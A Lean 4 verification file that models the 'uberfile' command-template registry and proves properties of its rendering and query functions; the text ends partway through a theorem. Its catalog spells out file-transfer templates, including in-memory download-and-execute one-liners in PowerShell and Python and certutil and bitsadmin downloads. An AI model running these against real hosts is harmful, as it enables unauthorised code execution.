import Mathlib

set_option maxHeartbeats 1000000

/-
Verification of the uberfile command-template registry and rendering engine.

The development shallowly embeds the Python sources:
  uberfile/commands.py   (CommandContext, SimpleCommand, CommandRegistry,
                          create_default_registry)
  uberfile/__main__.py   (list_commands, is_elf_or_shell,
                          generate_command_tuples)

Python strings are modelled as Lean `String`; the string primitives used by
the code (`str.lower`, `str.upper`, `str.replace`, `str.format`,
`str.startswith`, `str.endswith`) are modelled by executable functions over
the character list of the string.  Fallible Python code (exceptions) is
modelled with `Except PyErr`.
-/

/-- The two brace characters, written via code points. -/
def lbrace : Char := Char.ofNat 123

/-- Closing brace character. -/
def rbrace : Char := Char.ofNat 125

/-- Model of Python `str.lower` (the code only lower-cases ASCII protocol
names, so the ASCII case mapping of `Char.toLower` is a faithful model). -/
def pyToLower (s : String) : String := String.mk (s.data.map Char.toLower)

/-- Model of Python `str.upper` (ASCII case mapping, see `pyToLower`). -/
def pyToUpper (s : String) : String := String.mk (s.data.map Char.toUpper)

/-- Model of Python `str.startswith`. -/
def strStartsWith (s p : String) : Bool := p.data.isPrefixOf s.data

/-- Model of Python `str.endswith`. -/
def strEndsWith (s p : String) : Bool := p.data.isSuffixOf s.data

/-- Does `pat` occur as a contiguous substring (Python `in` on strings)? -/
def hasSubstr (pat : List Char) : List Char → Bool
  | [] => pat.isEmpty
  | c :: rest => pat.isPrefixOf (c :: rest) || hasSubstr pat rest

/-- Fuelled worker for `pyReplace`; the fuel is the length of the scanned
list, which bounds the number of scanning steps. -/
def replaceAux (pat rep : List Char) : Nat → List Char → List Char
  | _, [] => []
  | 0, l => l
  | Nat.succ fuel, c :: rest =>
    if pat.isPrefixOf (c :: rest) then
      rep ++ replaceAux pat rep fuel (List.drop (pat.length - 1) rest)
    else
      c :: replaceAux pat rep fuel rest

/-- Model of Python `str.replace`: replace every non-overlapping occurrence
of `pat` in `s` by `rep`, left to right.  The code only ever replaces the
non-empty pattern string of the PROTO placeholder, so the empty-pattern
corner of Python `replace` is left out of the model. -/
def pyReplace (s pat rep : String) : String :=
  if pat.data.isEmpty then s
  else String.mk (replaceAux pat.data rep.data s.data.length s.data)

/-- Python exceptions raised by the modelled code. -/
inductive PyErr where
  | keyError (field : String)
  | valueError (msg : String)
  | typeError (msg : String)
  deriving DecidableEq, Repr

/-- Association-list lookup; models Python `dict` indexing / `dict.get`
(dicts preserve key insertion order, hence the list model). -/
def assocLookup {α : Type} : List (String × α) → String → Option α
  | [], _ => none
  | (k0, v) :: rest, k => if k0 == k then some v else assocLookup rest k

/-- Association-list update; models Python `dict` assignment: an existing
key keeps its position, a new key is appended at the end. -/
def assocSet {α : Type} : List (String × α) → String → α → List (String × α)
  | [], k, v => [(k, v)]
  | (k0, v0) :: rest, k, v =>
    if k0 == k then (k0, v) :: rest else (k0, v0) :: assocSet rest k v

/-- The keys of an association list, in order. -/
def assocKeys {α : Type} (l : List (String × α)) : List String :=
  l.map Prod.fst

/-- Scanner state for the model of Python `str.format`. -/
inductive FmtState where
  | normal
  | afterLB
  | afterRB
  | inField (acc : List Char)

/-- One-pass scanner modelling CPython `str.format` restricted to what the
templates use: named replacement fields without conversion or format spec.
Doubled braces are literal braces; a replacement field whose name is not
among `fields` raises `KeyError`; unbalanced braces raise `ValueError`.
(The auto-numbering of an empty field name is modelled as a `KeyError` on
the empty name; no template uses it.) -/
def formatAux (fields : List (String × String)) : FmtState → List Char → Except PyErr (List Char)
  | FmtState.normal, [] => Except.ok []
  | FmtState.normal, c :: rest =>
    if c == lbrace then formatAux fields FmtState.afterLB rest
    else if c == rbrace then formatAux fields FmtState.afterRB rest
    else (formatAux fields FmtState.normal rest).map (fun r => c :: r)
  | FmtState.afterLB, [] =>
    Except.error (PyErr.valueError "Single opening brace encountered in format string")
  | FmtState.afterLB, c :: rest =>
    if c == lbrace then (formatAux fields FmtState.normal rest).map (fun r => lbrace :: r)
    else if c == rbrace then
      match assocLookup fields "" with
      | some v => (formatAux fields FmtState.normal rest).map (fun r => v.data ++ r)
      | none => Except.error (PyErr.keyError "")
    else formatAux fields (FmtState.inField [c]) rest
  | FmtState.afterRB, [] =>
    Except.error (PyErr.valueError "Single closing brace encountered in format string")
  | FmtState.afterRB, c :: rest =>
    if c == rbrace then (formatAux fields FmtState.normal rest).map (fun r => rbrace :: r)
    else Except.error (PyErr.valueError "Single closing brace encountered in format string")
  | FmtState.inField _, [] =>
    Except.error (PyErr.valueError "expected closing brace before end of string")
  | FmtState.inField acc, c :: rest =>
    if c == rbrace then
      match assocLookup fields (String.mk acc.reverse) with
      | some v => (formatAux fields FmtState.normal rest).map (fun r => v.data ++ r)
      | none => Except.error (PyErr.keyError (String.mk acc.reverse))
    else formatAux fields (FmtState.inField (c :: acc)) rest

/-- Model of Python `template.format(**fields)`. -/
def pyFormat (template : String) (fields : List (String × String)) : Except PyErr String :=
  (formatAux fields FmtState.normal template.data).map String.mk

/-- `CommandContext` from uberfile/commands.py. -/
structure CommandContext where
  lhost : String
  lport : String
  input_file : String
  output_file : String
  protocol : String := "HTTP"
  deriving DecidableEq, Repr

/-- `SimpleCommand` from uberfile/commands.py (the only concrete `Command`
subclass). -/
structure SimpleCommand where
  name : String
  template : String
  notes : Option String
  protocols : List String
  deriving DecidableEq, Repr

/-- The `Command.__init__` constructor: `protocols or {'HTTP'}` defaults a
missing (or falsy, i.e. empty) protocol set to HTTP.  Python sets are
modelled as lists used only through membership. -/
def mkSimpleCommand (name template : String) (notes : Option String)
    (protocols : Option (List String)) : SimpleCommand :=
  { name := name, template := template, notes := notes,
    protocols :=
      match protocols with
      | none => ["HTTP"]
      | some [] => ["HTTP"]
      | some ps => ps }

/-- The four standard keyword fields passed to `str.format` by
`SimpleCommand.generate`. -/
def stdFields (ctx : CommandContext) : List (String × String) :=
  [("LHOST", ctx.lhost), ("LPORT", ctx.lport),
   ("INPUTFILE", ctx.input_file), ("OUTPUTFILE", ctx.output_file)]

/-- The common tail of `SimpleCommand.generate`: replace `PROTO` and format
the four standard placeholders. -/
def renderMain (cmd : SimpleCommand) (ctx : CommandContext)
    (proto_pfx : String) : Except PyErr String :=
  pyFormat (pyReplace cmd.template "{PROTO}" proto_pfx) (stdFields ctx)

/-- `SimpleCommand.generate` from uberfile/commands.py, branch for branch:
lower-case the protocol; `https` and the `http/ftp/smb` list keep the
lowered prefix; `scp` formats the template directly with only the four
standard fields; any other value falls through to the common tail with the
lowered prefix. -/
def SimpleCommand.generate (cmd : SimpleCommand) (ctx : CommandContext) : Except PyErr String :=
  let proto_pfx := pyToLower ctx.protocol
  if proto_pfx == "https" then
    renderMain cmd ctx "https"
  else if ["http", "ftp", "smb"].contains proto_pfx then
    renderMain cmd ctx (pyToLower proto_pfx)
  else if proto_pfx == "scp" then
    pyFormat cmd.template (stdFields ctx)
  else
    renderMain cmd ctx proto_pfx

/-- `CommandRegistry` from uberfile/commands.py: a dict from OS name to a
dict from command type to the ordered list of commands. -/
structure CommandRegistry where
  commands : List (String × List (String × List SimpleCommand))
  deriving DecidableEq, Repr

/-- `CommandRegistry.__init__`: the two fixed OS keys with empty tables. -/
def CommandRegistry.init : CommandRegistry :=
  ⟨[("windows", []), ("linux", [])]⟩

/-- `CommandRegistry.add_command`: raises `ValueError` for an OS key that is
not in the registry, otherwise appends the command to the list for
`(os_type, command_type)`, creating the list if absent. -/
def CommandRegistry.add_command (r : CommandRegistry) (os_type command_type : String)
    (cmd : SimpleCommand) : Except PyErr CommandRegistry :=
  match assocLookup r.commands os_type with
  | none => Except.error (PyErr.valueError ("Invalid OS type: " ++ os_type))
  | some osMap =>
    let lst := (assocLookup osMap command_type).getD []
    Except.ok ⟨assocSet r.commands os_type (assocSet osMap command_type (lst ++ [cmd]))⟩

/-- The list of commands registered under `(os_type, command_type)`
(empty when either key is absent), as read by the query methods. -/
def CommandRegistry.cmdList (r : CommandRegistry) (os_type command_type : String) : List SimpleCommand :=
  (assocLookup ((assocLookup r.commands os_type).getD []) command_type).getD []

/-- The membership test `protocol.upper() in cmd.protocols` shared by the
two query methods, with the protocol already upper-cased. -/
def supportsProtocol (protocol : String) (cmd : SimpleCommand) : Bool :=
  cmd.protocols.contains protocol

/-- `CommandRegistry.get_commands`: the registered list for the pair of
keys, filtered by `protocol.upper() in cmd.protocols`. -/
def CommandRegistry.get_commands (r : CommandRegistry) (os_type command_type protocol : String) : List SimpleCommand :=
  (r.cmdList os_type command_type).filter (supportsProtocol (pyToUpper protocol))

/-- The loop body of `get_command_types`: keep the command types for which
some registered command supports the (upper-cased) protocol. -/
def gctAux (protocol : String) : List (String × List SimpleCommand) → List String
  | [] => []
  | (t, cmds) :: rest =>
    if cmds.any (supportsProtocol (pyToUpper protocol)) then t :: gctAux protocol rest
    else gctAux protocol rest

/-- `CommandRegistry.get_command_types`. -/
def CommandRegistry.get_command_types (r : CommandRegistry) (os_type protocol : String) : List String :=
  gctAux protocol ((assocLookup r.commands os_type).getD [])

/-- The fixed catalog registered by `create_default_registry`, one triple
per `add_command` call, in source order. -/
def defaultEntries : List (String × String × SimpleCommand) :=
  [ ("linux", "curl",
      mkSimpleCommand "curl" "curl {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}"
        none (some ["HTTP", "HTTPS"])),
    ("linux", "wget",
      mkSimpleCommand "wget" "wget {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -O {OUTPUTFILE}"
        none (some ["HTTP", "HTTPS"])),
    ("linux", "python",
      mkSimpleCommand "python-memory" "python -c \"import urllib2; exec urllib2.urlopen('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}').read()\""
        (some "In memory") (some ["HTTP", "HTTPS"])),
    ("linux", "ftp",
      mkSimpleCommand "ftp" "ftp -n {LHOST} {LPORT} <<EOF\nuser anonymous anonymous\nget {INPUTFILE} {OUTPUTFILE}\nbye\nEOF"
        none (some ["FTP"])),
    ("linux", "scp",
      mkSimpleCommand "scp" "scp -P {LPORT} {LHOST}:{INPUTFILE} {OUTPUTFILE}"
        none (some ["SCP"])),
    ("linux", "smbclient",
      mkSimpleCommand "smbclient" "smbclient //{LHOST}/EXEGOL -U uberfile%exegol4thewin -c \"get {INPUTFILE} {OUTPUTFILE}\""
        none (some ["SMB"])),
    ("windows", "certutil",
      mkSimpleCommand "certutil" "certutil.exe -urlcache -f {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}"
        none (some ["HTTP", "HTTPS"])),
    ("windows", "powershell",
      mkSimpleCommand "powershell-download" "powershell.exe -c \"(New-Object Net.WebClient).DownloadFile('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}','{OUTPUTFILE}')\""
        none (some ["HTTP", "HTTPS"])),
    ("windows", "powershell",
      mkSimpleCommand "powershell-webrequest" "powershell.exe -c \"Invoke-WebRequest '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -OutFile '{OUTPUTFILE}'\""
        none (some ["HTTP", "HTTPS"])),
    ("windows", "powershell",
      mkSimpleCommand "powershell-bits" "powershell.exe -c \"Import-Module BitsTransfer; Start-BitsTransfer -Source '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}'\""
        none (some ["HTTP", "HTTPS"])),
    ("windows", "powershell",
      mkSimpleCommand "powershell-bits-async" "powershell.exe -c \"Import-Module BitsTransfer; Start-BitsTransfer -Source '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}' -Asynchronous\""
        none (some ["HTTP", "HTTPS"])),
    ("windows", "powershell",
      mkSimpleCommand "powershell-memory" "powershell.exe \"IEX(New-Object Net.WebClient).downloadString('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}')\""
        (some "In memory") (some ["HTTP", "HTTPS"])),
    ("windows", "bitsadmin",
      mkSimpleCommand "bitsadmin" "bitsadmin.exe /transfer 5720 /download /priority normal {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}"
        none (some ["HTTP", "HTTPS"])),
    ("windows", "wget",
      mkSimpleCommand "wget" "wget \"{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}\" -OutFile \"{OUTPUTFILE}\""
        none (some ["HTTP", "HTTPS"])),
    ("windows", "ftp",
      mkSimpleCommand "ftp" "echo open {LHOST} {LPORT}> ftp.txt && echo user anonymous anonymous>> ftp.txt && echo get {INPUTFILE} {OUTPUTFILE}>> ftp.txt && echo bye>> ftp.txt && ftp -s:ftp.txt && del ftp.txt"
        none (some ["FTP"])),
    ("windows", "net-use",
      mkSimpleCommand "net-use" "net use \\\\{LHOST}\\EXEGOL /user:uberfile exegol4thewin && copy \\\\{LHOST}\\EXEGOL\\{INPUTFILE} {OUTPUTFILE} && net use \\\\{LHOST}\\EXEGOL /delete"
        none (some ["SMB"])),
    ("windows", "powershell-smb",
      mkSimpleCommand "powershell-smb" "powershell.exe -c \"$pass = ConvertTo-SecureString 'exegol4thewin' -AsPlainText -Force; $cred = New-Object System.Management.Automation.PSCredential('uberfile', $pass); New-PSDrive -Name 'Z' -PSProvider FileSystem -Root \\\\{LHOST}\\EXEGOL -Credential $cred; Copy-Item -Path Z:\\{INPUTFILE} -Destination {OUTPUTFILE}; Remove-PSDrive -Name 'Z'\""
        none (some ["SMB"])),
    ("windows", "robocopy",
      mkSimpleCommand "robocopy" "net use \\\\{LHOST}\\EXEGOL /user:uberfile exegol4thewin && robocopy \\\\{LHOST}\\EXEGOL . {INPUTFILE} /COPY:DAT /Z && net use \\\\{LHOST}\\EXEGOL /delete"
        (some "Robust copy with restart capability") (some ["SMB"])) ]

/-- `create_default_registry`: register the catalog in source order. -/
def create_default_registry : Except PyErr CommandRegistry :=
  defaultEntries.foldl
    (fun acc e => acc.bind (fun r => r.add_command e.1 e.2.1 e.2.2))
    (Except.ok CommandRegistry.init)

/-- The registry value produced at startup (every `add_command` in the
catalog succeeds, so the fallback default is never taken). -/
def defaultRegistry : CommandRegistry :=
  match create_default_registry with
  | Except.ok r => r
  | Except.error _ => CommandRegistry.init

/-- What the two reads in `is_elf_or_shell` observe of a readable file:
the first up-to-4 bytes of the binary read, and the first line of the text
read (decoded with `errors='ignore'`, the newline kept as Python
`readline` keeps it). -/
structure FSFile where
  start4 : List Nat
  firstLine : String
  deriving DecidableEq, Repr

/-- The filesystem as observed by `generate_command_tuples`:
`isfile` models `os.path.isfile`, `read` models opening and reading the
file (`none` when any of the reads raises: missing or unreadable file). -/
structure FileSystem where
  isfile : String → Bool
  read : String → Option FSFile

/-- The ELF magic bytes `0x7F 'E' 'L' 'F'`. -/
def elfMagic : List Nat := [0x7f, 0x45, 0x4c, 0x46]

/-- `is_elf_or_shell` from uberfile/__main__.py.  The whole body runs under
`try/except Exception: pass; return False`, so a failed read (`none`)
yields `False` without reaching the suffix check, and no exception ever
escapes. -/
def is_elf_or_shell (filepath : String) (readResult : Option FSFile) : Bool :=
  match readResult with
  | none => false
  | some f =>
    if f.start4 == elfMagic then true
    else if strStartsWith f.firstLine "#!" then true
    else strEndsWith filepath ".sh"

/-- The three OR-combined detection conditions of the heuristic (the
`looks_executable` pure function of the spec), for a readable file. -/
def elfCond (f : FSFile) (filepath : String) : Bool :=
  f.start4 == elfMagic || strStartsWith f.firstLine "#!" || strEndsWith filepath ".sh"

/-- The chmod post-processing applied to one `(notes, command)` tuple. -/
def appendChmod (output_file : String) (p : Option String × String) : Option String × String :=
  (p.1, p.2 ++ "; chmod +x " ++ output_file)

/-- The rendering loop of `generate_command_tuples`: render each command
(a raised `KeyError`/`ValueError` propagates, aborting the loop), append
the chmod suffix when on linux with `needs_chmod` set, and collect the
`(notes, command)` tuples in order. -/
def gctuplesAux (context : CommandContext) (target_os output_file : String)
    (needs_chmod : Bool) : List SimpleCommand → Except PyErr (List (Option String × String))
  | [] => Except.ok []
  | cmd :: rest => do
    let command ← cmd.generate context
    let command :=
      if target_os == "linux" && needs_chmod then command ++ "; chmod +x " ++ output_file
      else command
    let tail ← gctuplesAux context target_os output_file needs_chmod rest
    Except.ok ((cmd.notes, command) :: tail)

/-- `generate_command_tuples` from uberfile/__main__.py. -/
def generate_command_tuples (commands : List SimpleCommand) (context : CommandContext)
    (target_os input_file output_file : String) (fs : FileSystem) :
    Except PyErr (List (Option String × String)) :=
  let needs_chmod :=
    if target_os == "linux" && fs.isfile input_file then
      is_elf_or_shell input_file (fs.read input_file)
    else false
  gctuplesAux context target_os output_file needs_chmod commands

/-- Lexicographic comparison on code points, models Python `<` on str. -/
def charListLt : List Char → List Char → Bool
  | [], [] => false
  | [], _ :: _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs =>
    if a.toNat < b.toNat then true
    else if b.toNat < a.toNat then false
    else charListLt as bs

/-- Python `a < b` on strings. -/
def strLtB (a b : String) : Bool := charListLt a.data b.data

/-- Insert into a sorted list, keeping earlier equal elements first. -/
def insertSorted (x : String) : List String → List String
  | [] => [x]
  | y :: rest => if strLtB y x then y :: insertSorted x rest else x :: y :: rest

/-- Model of Python `sorted` on a list of strings. -/
def sortStrings : List String → List String
  | [] => []
  | x :: rest => insertSorted x (sortStrings rest)

/-- A dynamically-checked call of the bound method
`registry.get_command_types`: Python raises `TypeError` unless exactly the
two required positional arguments `(os_type, protocol)` are supplied. -/
def callGetCommandTypes (r : CommandRegistry) (args : List String) : Except PyErr (List String) :=
  match args with
  | [os_type, protocol] => Except.ok (r.get_command_types os_type protocol)
  | _ => Except.error (PyErr.typeError
      "get_command_types() missing 1 required positional argument: protocol")

/-- `list_commands` from uberfile/__main__.py, modelled as the printed
lines plus the `sys.exit` status.  Colour escape codes are omitted; the
partial output printed before an exception is not modelled, only the
exception itself.  Both calls pass a single argument to
`get_command_types`. -/
def list_commands (r : CommandRegistry) : Except PyErr (List String × Nat) := do
  let winTypes ← callGetCommandTypes r ["windows"]
  let winLines := (sortStrings winTypes).map (fun t => "   - " ++ t)
  let linTypes ← callGetCommandTypes r ["linux"]
  let linLines := (sortStrings linTypes).map (fun t => "   - " ++ t)
  Except.ok (["Windows commands"] ++ winLines ++ [""] ++ ["Linux commands"] ++ linLines, 0)

/-- The per-OS table of a registry, as the query methods read it. -/
def commandTypesOf (r : CommandRegistry) (os_type : String) : List (String × List SimpleCommand) :=
  (assocLookup r.commands os_type).getD []

/-- Does some command of the entry support the protocol (the `any` of
`get_command_types`)? -/
def anySupports (protocol : String) (e : String × List SimpleCommand) : Bool :=
  e.2.any (supportsProtocol protocol)

/-- The five protocol names of the CLI `--protocol` choices (the spec's
closed protocol enumeration). -/
def validProtocols : List String := ["HTTP", "HTTPS", "FTP", "SMB", "SCP"]

/-- The curl template of the default catalog, used in the rendering
scenarios. -/
def curlCmd : SimpleCommand :=
  mkSimpleCommand "curl" "curl {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}"
    none (some ["HTTP", "HTTPS"])

/-- The HTTP scenario context. -/
def ctxHTTP : CommandContext :=
  { lhost := "10.0.0.1", lport := "80", input_file := "shell.sh",
    output_file := "/tmp/shell.sh", protocol := "HTTP" }

/-- The HTTPS scenario context. -/
def ctxHTTPS : CommandContext :=
  { lhost := "10.0.0.1", lport := "80", input_file := "shell.sh",
    output_file := "/tmp/shell.sh", protocol := "HTTPS" }

/-- An FTP context, used as a concrete non-SCP instance. -/
def ctxFTP : CommandContext :=
  { lhost := "10.0.0.1", lport := "21", input_file := "shell.sh",
    output_file := "/tmp/shell.sh", protocol := "FTP" }

/-- An SCP context. -/
def scpCtx : CommandContext :=
  { lhost := "1.2.3.4", lport := "22", input_file := "tool",
    output_file := "/tmp/tool", protocol := "SCP" }

/-- A (not registered by default) SCP template whose body wrongly uses the
PROTO placeholder. -/
def scpProtoCmd : SimpleCommand :=
  mkSimpleCommand "bad-scp" "scp -P {PROTO} {LHOST}" none (some ["SCP"])

/-- A concrete readable shell-script file: first bytes of a shebang text
file. -/
def fsFileW : FSFile :=
  { start4 := [0x23, 0x21, 0x2f, 0x62], firstLine := "#!/bin/sh\n" }

/-- A concrete filesystem on which every path is a readable copy of
`fsFileW`. -/
def fsW : FileSystem :=
  { isfile := fun _ => true, read := fun _ => some fsFileW }

/-- A concrete filesystem on which every path exists (`os.path.isfile` is
true) but every open raises, e.g. for lack of read permission. -/
def fsUnreadable : FileSystem :=
  { isfile := fun _ => true, read := fun _ => none }

/-- Packing a valid code point and unpacking it is the identity. -/
theorem toNat_ofNat_valid (n : Nat) (h : n.isValidChar) : (Char.ofNat n).toNat = n := by
  unfold Char.ofNat
  rw [dif_pos h]
  rfl

/-- ASCII upper-casing is idempotent. -/
theorem toUpper_idem (c : Char) : c.toUpper.toUpper = c.toUpper := by
  have key : ∀ d : Char, ¬(d.toNat ≥ 97 ∧ d.toNat ≤ 122) → d.toUpper = d := by
    intro d hd
    unfold Char.toUpper
    rw [if_neg hd]
  by_cases h : c.toNat ≥ 97 ∧ c.toNat ≤ 122
  · have h1 : c.toUpper = Char.ofNat (c.toNat - 32) := by
      unfold Char.toUpper
      rw [if_pos h]
    rw [h1]
    apply key
    rw [toNat_ofNat_valid _ (Or.inl (by omega))]
    omega
  · rw [key c h, key c h]

/-- ASCII lower-casing is idempotent. -/
theorem toLower_idem (c : Char) : c.toLower.toLower = c.toLower := by
  have key : ∀ d : Char, ¬(d.toNat ≥ 65 ∧ d.toNat ≤ 90) → d.toLower = d := by
    intro d hd
    unfold Char.toLower
    rw [if_neg hd]
  by_cases h : c.toNat ≥ 65 ∧ c.toNat ≤ 90
  · have h1 : c.toLower = Char.ofNat (c.toNat + 32) := by
      unfold Char.toLower
      rw [if_pos h]
    rw [h1]
    apply key
    rw [toNat_ofNat_valid _ (Or.inl (by omega))]
    omega
  · rw [key c h, key c h]

/-- Upper-casing a string twice equals upper-casing it once. -/
theorem pyToUpper_idem (s : String) : pyToUpper (pyToUpper s) = pyToUpper s := by
  show String.mk ((s.data.map Char.toUpper).map Char.toUpper) = String.mk (s.data.map Char.toUpper)
  rw [List.map_map]
  have : (Char.toUpper ∘ Char.toUpper) = Char.toUpper := funext fun c => toUpper_idem c
  rw [this]

/-- Lower-casing a string twice equals lower-casing it once. -/
theorem pyToLower_idem (s : String) : pyToLower (pyToLower s) = pyToLower s := by
  show String.mk ((s.data.map Char.toLower).map Char.toLower) = String.mk (s.data.map Char.toLower)
  rw [List.map_map]
  have : (Char.toLower ∘ Char.toLower) = Char.toLower := funext fun c => toLower_idem c
  rw [this]

/-- Lookup after update: the updated key maps to the new value, every other
key is unchanged. -/
theorem assocLookup_assocSet {α : Type} (l : List (String × α)) (k k' : String) (v : α) :
    assocLookup (assocSet l k v) k' = if k = k' then some v else assocLookup l k' := by
  induction l with
  | nil =>
    by_cases h : k = k' <;> simp [assocSet, assocLookup, beq_iff_eq, h]
  | cons hd tl ih =>
    obtain ⟨k0, v0⟩ := hd
    by_cases h0 : k0 = k
    · subst h0
      by_cases h1 : k0 = k' <;>
        simp [assocSet, assocLookup, beq_iff_eq, h1]
    · by_cases h2 : k = k'
      · subst h2
        have h1 : ¬k0 = k := h0
        simp [assocSet, assocLookup, beq_iff_eq, h0, h1, ih]
      · by_cases h1 : k0 = k'
        · subst h1
          have hne : ¬(k0 = k) := h0
          simp [assocSet, assocLookup, beq_iff_eq, hne]
          rw [if_neg (fun hh => h0 hh.symm)]
        · simp [assocSet, assocLookup, beq_iff_eq, h0, h1, h2, ih]

/-- A key outside the key list looks up to `none`. -/
theorem assocLookup_eq_none {α : Type} (l : List (String × α)) (k : String)
    (h : k ∉ assocKeys l) : assocLookup l k = none := by
  induction l with
  | nil => rfl
  | cons hd tl ih =>
    obtain ⟨k0, v0⟩ := hd
    have hne : k0 ≠ k := by
      intro he
      exact h (by simp [assocKeys, he])
    have htl : k ∉ assocKeys tl := by
      intro hm
      apply h
      simp [assocKeys] at hm ⊢
      right
      exact hm
    simp only [assocLookup, beq_iff_eq]
    rw [if_neg hne]
    exact ih htl

/-- A key with a `some` lookup is in the key list. -/
theorem mem_keys_of_assocLookup {α : Type} (l : List (String × α)) (k : String) (v : α)
    (h : assocLookup l k = some v) : k ∈ assocKeys l := by
  induction l with
  | nil => simp [assocLookup] at h
  | cons hd tl ih =>
    obtain ⟨k0, v0⟩ := hd
    simp only [assocLookup, beq_iff_eq] at h
    by_cases h0 : k0 = k
    · simp [assocKeys, h0]
    · rw [if_neg (by simpa [beq_iff_eq] using h0)] at h
      simp [assocKeys]
      right
      have := ih h
      simpa [assocKeys] using this

/-- A key from the key list looks up to `some`. -/
theorem assocLookup_isSome_of_mem {α : Type} (l : List (String × α)) (k : String)
    (h : k ∈ assocKeys l) : (assocLookup l k).isSome := by
  induction l with
  | nil => simp [assocKeys] at h
  | cons hd tl ih =>
    obtain ⟨k0, v0⟩ := hd
    simp [assocKeys] at h
    simp only [assocLookup, beq_iff_eq]
    by_cases h0 : k0 = k
    · simp [h0]
    · rw [if_neg (by simpa [beq_iff_eq] using h0)]
      exact ih (by
        rcases h with h | h
        · exact absurd h.symm h0
        · simpa [assocKeys] using h)

/-- The `get_command_types` loop keeps, in order, exactly the keys whose
command list has a member supporting the upper-cased protocol. -/
theorem gctAux_eq (p : String) (l : List (String × List SimpleCommand)) :
    gctAux p l = (l.filter (anySupports (pyToUpper p))).map Prod.fst := by
  induction l with
  | nil => rfl
  | cons hd tl ih =>
    obtain ⟨t, cmds⟩ := hd
    by_cases h : cmds.any (supportsProtocol (pyToUpper p)) = true <;>
      simp [gctAux, anySupports, List.filter, h, ih]

/-- On a readable file, the heuristic is the three-way OR of the claim. -/
theorem is_elf_or_shell_some (fp : String) (f : FSFile) :
    is_elf_or_shell fp (some f) = elfCond f fp := by
  simp only [is_elf_or_shell, elfCond]
  by_cases h1 : f.start4 == elfMagic
  · simp [h1]
  · by_cases h2 : strStartsWith f.firstLine "#!" <;>
      simp [h1, h2]

/-- Rendering with the chmod flag set appends the chmod suffix to every
tuple produced by rendering with the flag unset (errors unchanged). -/
theorem gctuplesAux_chmod (ctx : CommandContext) (out : String) (cmds : List SimpleCommand) :
    gctuplesAux ctx "linux" out true cmds =
      Except.map (List.map (appendChmod out)) (gctuplesAux ctx "linux" out false cmds) := by
  induction cmds with
  | nil => rfl
  | cons cmd rest ih =>
    simp only [gctuplesAux]
    cases hg : cmd.generate ctx with
    | error e => simp [Except.map, Bind.bind, Except.bind]
    | ok c =>
      simp only [Bind.bind, Except.bind, ih]
      cases hr : gctuplesAux ctx "linux" out false rest with
      | error e => simp [Except.map]
      | ok tl => simp [Except.map, appendChmod]

/-- Claim C1: for every operating system, command type, and protocol (one
of the five canonical protocol names of the CLI), every template returned
by `get_commands(os, type, protocol)` supports that protocol, and the
returned list is exactly the sub-list of the templates registered under
`(os, type)` that support it, in original insertion order (the order of
the registered list, preserved by `filter`). -/
theorem get_commands_exact (r : CommandRegistry) (os ct p : String)
    (hp : p ∈ validProtocols) :
    r.get_commands os ct p = (r.cmdList os ct).filter (supportsProtocol p) ∧
    ∀ cmd ∈ r.get_commands os ct p, supportsProtocol p cmd = true := by
  have hup : pyToUpper p = p := by
    simp [validProtocols] at hp
    rcases hp with rfl | rfl | rfl | rfl | rfl <;> decide
  constructor
  · unfold CommandRegistry.get_commands
    rw [hup]
  · intro cmd hc
    unfold CommandRegistry.get_commands at hc
    rw [hup] at hc
    exact List.of_mem_filter hc

/-- Witness for C1: applying the theorem to the default registry at
`(linux, curl, HTTP)`. -/
theorem get_commands_exact_witness :
    defaultRegistry.get_commands "linux" "curl" "HTTP" =
      (defaultRegistry.cmdList "linux" "curl").filter (supportsProtocol "HTTP") :=
  (get_commands_exact defaultRegistry "linux" "curl" "HTTP" (by decide)).1

/-- Claim C3 (evaluating the code at the failing input): invoking the
`--list` path calls `get_command_types` with a single argument where two
are required, so `list_commands` raises `TypeError` instead of printing
the grouped command types and exiting 0. -/
theorem list_commands_raises :
    list_commands defaultRegistry =
      Except.error (PyErr.typeError
        "get_command_types() missing 1 required positional argument: protocol") := by
  rfl

/-- Claim C8: the protocol argument of both registry query methods is
case-insensitive, because both upper-case it before the membership test:
querying with `p` equals querying with the upper-cased form of `p`. -/
theorem query_protocol_case_insensitive (r : CommandRegistry) (os ct p : String) :
    r.get_commands os ct p = r.get_commands os ct (pyToUpper p) ∧
    r.get_command_types os p = r.get_command_types os (pyToUpper p) := by
  constructor
  · unfold CommandRegistry.get_commands
    rw [pyToUpper_idem]
  · unfold CommandRegistry.get_command_types
    rw [gctAux_eq, gctAux_eq, pyToUpper_idem]

/-- Claim C9: on a registry whose OS keys are windows and linux (as every
registry built by the program is), the query methods never fail on an
unknown operating system: they return empty results and raise nothing. -/
theorem query_unknown_os_empty (r : CommandRegistry) (os ct p : String)
    (hk : assocKeys r.commands = ["windows", "linux"])
    (h1 : os ≠ "windows") (h2 : os ≠ "linux") :
    r.get_commands os ct p = [] ∧ r.get_command_types os p = [] := by
  have hnone : assocLookup r.commands os = none := by
    apply assocLookup_eq_none
    rw [hk]
    simp [h1, h2]
  constructor
  · unfold CommandRegistry.get_commands CommandRegistry.cmdList
    rw [hnone]
    rfl
  · unfold CommandRegistry.get_command_types
    rw [hnone]
    rfl

/-- Witness for C9: querying the default registry for the unknown OS name
macos yields empty results. -/
theorem query_unknown_os_empty_witness :
    defaultRegistry.get_commands "macos" "curl" "HTTP" = [] ∧
    defaultRegistry.get_command_types "macos" "HTTP" = [] :=
  query_unknown_os_empty defaultRegistry "macos" "curl" "HTTP"
    (by decide) (by decide) (by decide)

/-- Claim C10: the executable-detection predicate is total: on every path
and every read outcome it returns a boolean (no exception escapes the
`try/except`), and when the file cannot be inspected it returns false. -/
theorem is_elf_or_shell_total (fp : String) (res : Option FSFile) :
